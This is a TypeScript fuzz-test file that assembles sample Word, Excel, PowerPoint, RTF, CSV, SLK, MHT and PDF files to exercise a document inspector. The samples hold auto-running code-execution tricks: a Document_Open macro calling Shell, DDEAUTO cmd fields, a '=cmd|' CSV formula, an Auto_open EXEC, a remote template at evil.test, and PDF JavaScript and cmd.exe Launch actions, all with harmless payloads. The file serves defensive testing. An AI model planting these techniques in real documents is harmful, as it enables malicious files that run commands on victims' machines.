import { deflateSync } from 'node:zlib';
import { makeCompound } from '../../unit/inspect/documents/make-compound.ts';
import {
  makeBiff,
  makeNative,
  makePackage,
  relationships,
  wordBody,
} from '../../unit/inspect/documents/make-office.ts';
import { makePdf, objectStream, pdfStream } from '../../unit/inspect/documents/make-pdf.ts';
import { vbaStreams } from '../../unit/inspect/documents/make-vba.ts';
import type { FuzzSample } from './broken-files.ts';

/** Documents with every feature that the inspectors look for, small enough that most changes hit something. */
export function documentSamples(): FuzzSample[] {
  const vba = vbaStreams({
    ThisDocument: 'Sub Document_Open()\r\nOpen "x" For Output As #1\r\nShell "calc"\r\nEnd Sub',
  });
  const native = makeNative('invoice.bat', '@echo off');
  return [
    compound('a.doc', vba),
    compound('a.xls', [{ path: 'Workbook', content: workbook() }]),
    compound('b.xls', [{ path: 'Workbook', content: encryptedWorkbook() }]),
    compound('b.doc', [
      {
        path: 'WordDocument',
        content: Buffer.concat([Buffer.alloc(600, 1), Buffer.from('\u0013 DDE cmd\u0015', 'latin1')]),
      },
      { path: '1Table', content: Buffer.alloc(200, 2) },
    ]),
    compound('a.ppt', [{ path: 'PowerPoint Document', content: presentation(native) }]),
    compound('c.doc', [
      { path: 'o/\u0001Ole10Native', content: native },
      { path: 'o/Equation Native', content: Buffer.alloc(80, 8) },
      { path: 'o/_123', content: Buffer.concat([Buffer.of(9, 0, 0, 0), deflateSync(native)]) },
      {
        path: 'o/\u0001Ole',
        content: Buffer.from('e0c9ea79f9bace118c8200aa004ba90b100000006100620063000000', 'hex'),
      },
    ]),
    compound('a.xlsx', [
      { path: 'EncryptedPackage', content: Buffer.alloc(64, 3) },
      {
        path: 'EncryptionInfo',
        content: Buffer.concat([Buffer.of(3, 0, 2, 0, 0, 0, 0, 0, 34, 0, 0, 0), Buffer.alloc(160, 16)]),
      },
    ]),
    packaged('a.docx', {
      'word/document.xml': wordBody(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:fldSimple w:instr="QUOTE 68"/>',
      ),
      'word/_rels/settings.xml.rels': relationships(
        ['attachedTemplate', 'https://evil.test/a.dotm'],
        ['hyperlink', 'https://a.test/'],
      ),
      'word/vbaProject.bin': makeCompound(vba),
    }),
    packaged('a.xlsb', {
      'xl/macrosheets/sheet1.bin': Buffer.from('2712000000000000000000060000006100750074006f005f00', 'hex'),
      'xl/externalLinks/e.bin': Buffer.from(
        'e8020e0100030000006300 6d00640001000000 6100'.replaceAll(' ', ''),
        'hex',
      ),
      'xl/worksheets/sheet1.xml': Buffer.from(
        '<worksheet><f>HYPERLINK("https://a.test/")</f><ocx classid="{x}"/></worksheet>',
      ),
    }),
    flat(
      'a.rtf',
      `{\\rtf1{\\object\\objupdate{\\*\\objdata 01050000 02000000 08000000 5061636b61676500 00000000 00000000 ${native.toString('hex')}}}{\\field{\\*\\fldinst DDE \\u65?{\\b x}}}{\\*\\template http://a.test}}`,
    ),
    flat('a.csv', 'a,b\r\n=cmd|\'/c calc\'!A0,=HYPERLINK("https://a.test/")\r\n'),
    flat('a.slk', 'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n'),
    flat(
      'a.xml',
      `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:d xmlns:w="x"><w:binData w:name="a.mso">${Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(native)]).toString('base64')}</w:binData><w:fldSimple w:instr="DDE x"/></w:d>`,
    ),
    flat(
      'a.mht',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Location: x.jpg\r\nContent-Transfer-Encoding: base64\r\n\r\n${native.toString('base64')}\r\n--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<html>=41=\r\n</html>\r\n--b--\r\n`,
    ),
    ...pdfs(native),
  ];
}

function compound(
  name: string,
  streams: readonly { readonly path: string; readonly content: Uint8Array | string }[],
): FuzzSample {
  return {
    name,
    parts: streams.map(({ content }) => Buffer.from(content)),
    pack: (parts) => makeCompound(streams.map(({ path }, index) => ({ path, content: parts[index] ?? '' }))),
  };
}

function packaged(name: string, parts: Readonly<Record<string, string | Buffer>>): FuzzSample {
  const names = Object.keys(parts);
  return {
    name,
    parts: Object.values(parts).map((part) => Buffer.from(part)),
    pack: (contents) =>
      makePackage(Object.fromEntries(names.map((part, index) => [part, contents[index] ?? '']))),
  };
}

function flat(name: string, text: string | Buffer): FuzzSample {
  return { name, parts: [Buffer.from(text)], pack: ([part]) => part ?? Buffer.alloc(0) };
}

function pdfs(native: Buffer): FuzzSample[] {
  const catalog =
    '<< /Type /Catalog /OpenAction << /S /J#61vaScript /JS (a\\(1\\)) >> /Names << /JavaScript 3 0 R >> >>';
  const actions =
    '<< /A << /S /Launch /Win << /F (cmd.exe) >> >> /B << /URI <68747470> >> /XFA [(a) 4 0 R] /EF << /F 5 0 R >> /F (a.bat) >>';
  const text = makePdf([
    catalog,
    actions,
    '<< /Names [(a) 1 0 R] /Kids [3 0 R] >>',
    pdfStream('<script>'),
    pdfStream(native, '/Type /EmbeddedFile'),
  ]);
  const filtered = [
    '/FlateDecode',
    '/LZWDecode',
    '[/AHx /A85 /RL]',
    '/Fl /DecodeParms << /Predictor 12 /Columns 4 >>',
  ].map(
    (filter): FuzzSample => ({
      name: 'b.pdf',
      parts: [Buffer.from('1 0 2 30 << /S /Launch /F (x) >> << /JS (y) >> ')],
      pack: ([part = Buffer.alloc(0)]) => {
        const content = filter.includes('Fl') ? deflateSync(part) : part;
        return makePdf([pdfStream(content, `/Type /ObjStm /N 2 /First 9 /Filter ${filter}`)]);
      },
    }),
  );
  const locked = makePdf(
    [catalog, objectStream([actions], 9)],
    `<< /ID [<00> <>] /Encrypt << /Filter /Standard /V 4 /R 4 /P -4 /Length 128 /CF << /S << /CFM /AESV2 >> >> /StmF /S /StrF /S /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> >> >>`,
  );
  return [flat('a.pdf', text), flat('c.pdf', locked), ...filtered];
}

function workbook(): Buffer {
  const sheet = Buffer.from('000000000001060041414141414100', 'hex');
  const name = Buffer.from('20000001000000000000000000000001', 'hex');
  const book = Buffer.concat([Buffer.of(0, 0, 6, 0, 0), Buffer.from('cmd\u0003/c', 'latin1')]);
  const formula = Buffer.concat([
    Buffer.alloc(20),
    Buffer.from('0b0017046361 6c630042016e00'.replaceAll(' ', ''), 'hex'),
  ]);
  return makeBiff([
    [0x0085, sheet],
    [0x0018, name],
    [0x01ae, book],
    [0x0023, Buffer.of(0x10, 0, 0)],
    [0x0006, formula],
    [0x01b8, Buffer.from('e0c9ea79f9bace118c8200aa004ba90b0800000061006200', 'hex')],
  ]);
}

/** Cannot be opened as it stands, but everything up to the verifier is read. */
function encryptedWorkbook(): Buffer {
  const classic = Buffer.concat([Buffer.of(1, 0, 1, 0, 1, 0), Buffer.alloc(48, 5)]);
  const modern = Buffer.concat([
    Buffer.of(1, 0, 2, 0, 2, 0, 4, 0, 0, 0, 32, 0, 0, 0),
    Buffer.alloc(16),
    Buffer.of(128, 0, 0, 0),
    Buffer.alloc(12),
    Buffer.of(16, 0, 0, 0),
    Buffer.alloc(60, 6),
  ]);
  return makeBiff([
    [0x002f, classic],
    [0x002f, modern],
  ]);
}

function presentation(native: Buffer): Buffer {
  const record = (head: number, type: number, content: Buffer) => {
    const start = Buffer.alloc(8);
    start.writeUInt16LE(head, 0);
    start.writeUInt16LE(type, 2);
    start.writeUInt32LE(content.length, 4);
    return Buffer.concat([start, content]);
  };
  const packed = Buffer.concat([Buffer.of(9, 0, 0, 0), deflateSync(native)]);
  return record(
    0x0f,
    1000,
    Buffer.concat([
      record(0x10, 0x1011, packed),
      record(0, 0x0ff3, Buffer.alloc(16, 2)),
      record(0x0f, 0x0fd7, record(0, 0x0fba, Buffer.from('https://a', 'utf16le'))),
    ]),
  );
}
